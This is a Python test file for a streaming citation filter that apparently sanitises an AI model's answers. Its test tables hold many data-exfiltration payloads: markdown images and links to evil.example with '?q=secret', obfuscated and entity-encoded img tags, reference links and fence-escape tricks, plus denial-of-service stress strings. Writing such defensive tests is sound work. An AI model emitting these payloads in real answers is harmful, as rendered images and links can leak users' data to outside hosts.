from __future__ import annotations

import itertools
import re
import time
from collections.abc import Iterable

import pytest
from tests.unit.graph.parts import a_passage

from agent_gateway.graph.writing.citing import Citer
from agent_gateway.graph.writing.markdown_code import LONGEST_HELD
from agent_gateway.interfaces import Generation
from agent_gateway.messages import Citation

PASSAGES = [a_passage("One.", source="one.md"), a_passage("Two.", source="two.md"), a_passage("Three.", source="3.md")]
KNOWN = "https://grafana.example/d/1"


def read(pieces: Iterable[str], allowed: Iterable[int] = (1, 2, 3)) -> tuple[str, list[int], list[str]]:
    """Text, cited numbers and notices of one answer."""
    generations = stream(pieces, allowed)
    text = "".join(each.text for each in generations)
    return (
        text,
        [each.citation.n for each in generations if each.citation is not None],
        [each.notice for each in generations if each.notice],
    )


def stream(pieces: Iterable[str], allowed: Iterable[int] = (1, 2, 3)) -> list[Generation]:
    citer = Citer(lambda: PASSAGES, lambda url: url in KNOWN)
    citer.begin(frozenset(allowed))
    found = [each for piece in pieces for each in citer.feed(piece)]
    return [*found, *citer.flush()]


TABLE = {
    "a given number": ("Restart it [1].", "Restart it [1].", [1], 0),
    "several marks": ("A [1, 2]. B [1][3].", "A [1, 2]. B [1][3].", [1, 2, 3], 0),
    "cited twice": ("A [2]. B [2].", "A [2]. B [2].", [2], 0),
    "at a word": ("It takes 5 minutes[1].", "It takes 5 minutes[1].", [1], 0),
    "an invented number": ("Restart it [7].", "Restart it.", [], 1),
    "an invented one among others": ("Restart it [1, 7].", "Restart it [1].", [1], 1),
    "only invented ones": ("A [7][8]. B [7].", "A. B.", [], 1),
    "an invented one first": ("[9] Restart it.", " Restart it.", [], 1),
    "an index in code": ("Use `a[0]` and `b[1]` [1].", "Use `a[0]` and `b[1]` [1].", [1], 0),
    "an index in a fence": (
        "So:\n```python\nx = a[7]\n```\nDone [2].",
        "So:\n```python\nx = a[7]\n```\nDone [2].",
        [2],
        0,
    ),
    "a double-ticked index": ("Use ``a`[7]`` now.", "Use ``a`[7]`` now.", [], 0),
    "an unclosed tick": ("It is ` a tick\nand a claim [1].", "It is ` a tick\nand a claim [1].", [1], 0),
    "an index without ticks": ("Take items[0].", "Take items[0].", [], 0),
    "a check box": ("- [ ] one\n- [x] two", "- [ ] one\n- [x] two", [], 0),
    "a year": ("As of [2023] it is.", "As of [2023] it is.", [], 0),
    "an exclamation": ("Hello! How are you!", "Hello! How are you!", [], 0),
    "a remote image": ("See ![a chart](https://evil.example/x.png?q=secret).", "See a chart.", [], 1),
    "a local image": ("See ![a chart](chart.png).", "See ![a chart](chart.png).", [], 0),
    "a protocol-relative image": ("See ![a chart](//evil.example/x).", "See a chart.", [], 1),
    "a known link": (f"See [Grafana]({KNOWN}).", f"See [Grafana]({KNOWN}).", [], 0),
    "an invented link": ("See [Grafana](https://evil.example/?q=secret).", "See Grafana.", [], 1),
    "an image in a link": ("[![x](https://evil.example/a)](https://evil.example/b)", "x", [], 2),
    "a mark as a link": ("So it is [1](https://evil.example).", "So it is [1].", [1], 0),
    "a remark at a mark": ("So [1](see above).", "So [1] (see above).", [1], 0),
    "a link with parentheses": ("See [it](https://evil.example/a_(b)).", "See it.", [], 1),
    "an unfinished link": ("See [it](https://evil.example", "See [it] (https``://evil.example``", [], 1),
    "an address": ("See https://evil.example/?q=secret now.", "See https``://evil.example/?q=secret`` now.", [], 1),
    "an address in brackets": ("So (https://evil.example/x).", "So (https``://evil.example/x``).", [], 1),
    "an address without a scheme": ("See www.evil.example/?q=s.", "See ``www.evil.example/?q=s``.", [], 1),
    "a known address": (f"See {KNOWN}, or ({KNOWN}).", f"See {KNOWN}, or ({KNOWN}).", [], 0),
    "more behind a known address": (f"See {KNOWN}?q=secret", f"See {KNOWN[:5]}``{KNOWN[5:]}?q=secret``", [], 1),
    "an address in code": ("Use `http://x.example` [1].", "Use `http://x.example` [1].", [1], 0),
    "an address in capitals": ("See WWW.evil.example/s_ now", "See ``WWW.evil.example/s``_ now", [], 1),
    "an emphasized address": ("See _www.evil.example/?q=s_.", "See _``www.evil.example/?q=s``_.", [], 1),
    "no address": ("Use awww.evil or a:// so", "Use awww.evil or a:// so", [], 0),
    "an address in a table": ("| https://evil.example/a | b |", "| https``://evil.example/a`` | b |", [], 1),
    "an address behind a stray tick": ("A ` and https://evil.example/x", "A ` and https``://evil.example/x``", [], 1),
    "a word that ends in w": ("So: w, ww or www it is", "So: w, ww or www it is", [], 0),
    "an unfinished mark": ("See [1", "See [1", [], 0),
    "a space at the end": ("See it ", "See it ", [], 0),
}


@pytest.mark.parametrize("name", TABLE)
@pytest.mark.parametrize("size", [1, 2, 3, 5, 1000])
def test_an_answer_is_read_the_same_however_it_is_cut(name: str, size: int) -> None:
    given, expected, cited, notices = TABLE[name]
    text, numbers, told = read(given[start : start + size] for start in range(0, len(given), size))
    assert text == expected.lstrip()
    assert numbers == cited
    assert len(told) == notices


def test_what_was_taken_out_is_told_once_and_by_number() -> None:
    assert read(["A [7]. B [7]."])[2] == [
        "The model cited [7], which was not among the passages; the mark was removed."
    ]
    assert read(["A [7]. B [9]."])[2] == [
        "The model cited [7] and [9], which were not among the passages; the marks were removed."
    ]


def test_a_passage_that_found_no_room_may_not_be_cited() -> None:
    assert read(["A [1]. B [3]."], allowed=(1,))[:2] == ("A [1]. B.", [1])


def test_a_citation_follows_its_mark_with_all_that_is_known_of_the_passage() -> None:
    kinds = stream(["It is so ", "[", "2", "]", ". Yes"])
    citation = Citation(n=2, source="two.md", title="TWO.MD", chunk=0, score=0.9)
    assert [each.text or each.citation for each in kinds] == ["It is so", " [2]. Yes", citation]


def test_ordinary_text_is_never_delayed() -> None:
    citer = Citer(lambda: PASSAGES, lambda url: False)
    citer.begin((1,))
    for piece in ("The", " answer", " is", " 42,", "\nand", " (so", " it", " says)"):
        assert "".join(each.text for each in citer.feed(piece)) == piece


def test_a_bracket_that_never_closes_is_let_go() -> None:
    citer = Citer(lambda: PASSAGES, lambda url: False)
    citer.begin((1,))
    out = "".join(each.text for piece in ["see [", *["word "] * 200] for each in citer.feed(piece))
    assert len(out) > 1000 - LONGEST_HELD


def test_a_link_too_long_to_be_held_does_not_become_one() -> None:
    text = f"[{'word ' * 200}](https://evil.example/?q=secret)"
    read_text, _, told = read(text[start : start + 7] for start in range(0, len(text), 7))
    assert "evil" not in read_text
    assert len(told) == 1


def test_what_comes_after_another_call_stands_apart() -> None:
    citer = Citer(lambda: PASSAGES, lambda url: False)
    texts: list[str] = []
    for said in ("Let me look.", " It is so."):
        citer.begin((1,))
        assert not citer.begun
        texts += [each.text for each in itertools.chain(citer.feed(said), citer.flush())]
    assert "".join(texts) == "Let me look.\n\nIt is so."


@pytest.mark.parametrize(
    "nasty",
    [
        "![a]" * 2000,
        "[" * 5000,
        "[a](b" * 2000,
        " " * 20000 + "x",
        "`" * 5000,
        "[1]" * 2000,
        "a://" * 5000,
        "www." * 5000,
    ],
)
def test_hostile_text_takes_no_time(nasty: str) -> None:
    begun = time.perf_counter()
    read([nasty])
    read(nasty[start : start + 3] for start in range(0, len(nasty), 3))
    assert time.perf_counter() - begun < 3


EVIL = "https://evil.example/x.png?q=1"
HOSTILE = {
    "an image tag": f'See <img src="{EVIL}"> it.',
    "an image tag without quotes": "See <img src=//evil.example/x> it.",
    "a tag over lines": f"See <img\n  alt='a'\n  src='{EVIL}'/> it.",
    "a tag in entities": "See <img src=&#104;ttps&#58;//evil.example/x> it.",
    "a broken tag": f'See <img alt=">" src="{EVIL}" <b>> it.',
    "a style": '<p style="background:url(//evil.example/x)">So</p>',
    "a link tag": f'<a href="{EVIL}">So</a>',
    "a frame": "<iframe srcdoc='&lt;img src=//evil.example>'></iframe>",
    "an autolink": f"See <{EVIL}> now.",
    "a reference": f"See ![a][ref].\n\n[ref]: {EVIL}\n",
    "a reference in angle brackets": f"See ![a][ref].\n\n[ref]: <{EVIL}> 'x'\n",
    "a reference over lines": f"See ![a][ref].\n\n[ref]:\n  {EVIL}\n",
    "a reference in a quote": f"See ![a][ref].\n\n> [ref]: {EVIL}",
    "a numbered reference": f"See ![a][1].\n\n[1]: {EVIL}",
    "a reference behind an invented mark": f"See ![a][ref].\n\n[ref][7]: {EVIL}",
    "an unclosed tick": f"see ` ![x]({EVIL}) [7]",
    "a tick that pairs with one before": f"see `\nthe `![x]({EVIL})` [7]",
    "an escaped tick": f"see \\`![x]({EVIL}) [7]`",
    "an address with an escape": "![x](https\\://evil.example/x)",
    "an address with an entity": "![x](&#104;ttps://evil.example/x)",
    "a fence that is none": f"```x` ![x]({EVIL})",
    "a fence that has ended": f"```\nx ``` y\n```\n![x]({EVIL})",
    "a fence in the item of a list": f"- ```\n  x\n  ```\n  ![x]({EVIL})",
    "a fence whose item has ended": f"- a\n  ```\n![x]({EVIL})",
    "an indented fence": f"a\n     ```\n![x]({EVIL})",
    "tildes": f"~~~\n```\n~~~\n![x]({EVIL})",
    "a fence in HTML": f"<div>\n```\n\n![x]({EVIL})",
    "columns of a table": f"| a ` | ` ` ![x]({EVIL}) ` |",
    "a tag in a link": f"[<img src={EVIL}>](chart.png)",
    "an image in a link's title": f"[x]({KNOWN} ![y]({EVIL}))",
    "a link of what is left": f"[[x]](https://evil.example/1)({EVIL})",
    "a link of nothing": f"[x][](https://evil.example/1)({EVIL})",
    "a tag within a reference": "[ref]: h<script>ttps://evil.example/x\n",
    "a mark within a reference": "[ref]: h [7]ttps://evil.example/x\n",
    "known with more": f"[x](<{KNOWN} https://evil.example>)",
}
#: What a reader of Markdown would make something of.
_LIVE = re.compile(r"\]\([^)]*evil|\]:\s*<?[^\s]*evil|<[A-Za-z][^>]*evil")


@pytest.mark.parametrize("name", HOSTILE)
@pytest.mark.parametrize("size", [1, 2, 3, 7, 1000])
def test_nothing_that_was_not_given_is_loaded_or_linked(name: str, size: int) -> None:
    given = HOSTILE[name]
    text = read(given[start : start + size] for start in range(0, len(given), size))[0]
    assert not _LIVE.search(text)
    assert "[7]" not in text
    assert text == read([given])[0]


HARMLESS = {
    "a comparison": "If a < b and c > d, or x <= 3, so it is.",
    "a placeholder": "Set <your-name> and <b>so</b>.<br/>",
    "a known autolink": f"See <{KNOWN}>.",
    "a known link tag": f'See <a href="{KNOWN}">it</a>.',
    "a known reference": f"See [it][ref].\n\n[ref]: {KNOWN}\n",
    "a local reference": "See [it][ref].\n\n[ref]: page.md\n",
    "a colon behind a mark": "By [1]: it is so.",
    "a tag in code": f'Write `<img src="{EVIL}">` or `![x]({EVIL})`.',
    "a pipe in code": "Use `ps | grep x` here.",
    "a tag in a fence": f'So:\n\n```html\n<img src="{EVIL}">\n[ref]: {EVIL}\n```\n\nDone [2].',
    "a fence in a list": "1. Run\n   ```bash\n   echo a[7]\n   ```\n2. Done [2].",
    "a fence in a nested list": "- a\n  - b\n    ```bash\n    echo a[7]\n    ```\n",
    "two fences": "```\na[7]\n```\nand\n```\nb[7]\n```\n",
    "struck out": "~~a~~ b ~ c",
}


@pytest.mark.parametrize("name", HARMLESS)
@pytest.mark.parametrize("size", [1, 2, 3, 7, 1000])
def test_what_loads_nothing_is_left_as_it_is(name: str, size: int) -> None:
    given = HARMLESS[name]
    text, _, told = read(given[start : start + size] for start in range(0, len(given), size))
    assert (text, told) == (given, [])


def test_a_tag_that_changes_what_follows_is_shown_and_does_nothing() -> None:
    assert read(["Set <title> and <script>.</script>"])[::2] == ("Set < title> and < script>.< /script>", [])


def test_html_that_was_taken_out_is_told() -> None:
    assert read([f'See <img src="{EVIL}">.'])[2] == [
        "The model's answer had HTML that loads or links something from elsewhere; it was removed."
    ]


def test_a_fence_that_one_model_leaves_open_hides_nothing_of_the_next() -> None:
    citer = Citer(lambda: PASSAGES, lambda url: False)
    said = ""
    for text in ("```\nx\n", f"```\n![x]({EVIL})"):
        citer.begin((1,))
        said += "".join(each.text for each in (*citer.feed(text), *citer.flush()))
    assert "evil" not in said


def test_a_number_that_no_passage_has_is_invented() -> None:
    assert read(["A [1] [0] [42]."], allowed=(0, 1, 42))[:2] == ("A [1].", [1])


@pytest.mark.parametrize(
    "nasty", ["<a " * 3000, "<a b='" * 2000, "[a]:" * 3000, "`a" * 5000, "```\n" + " " * 9000, "~" * 9000]
)
def test_hostile_markup_takes_no_time(nasty: str) -> None:
    begun = time.perf_counter()
    read([nasty])
    read(nasty[start : start + 3] for start in range(0, len(nasty), 3))
    assert time.perf_counter() - begun < 3
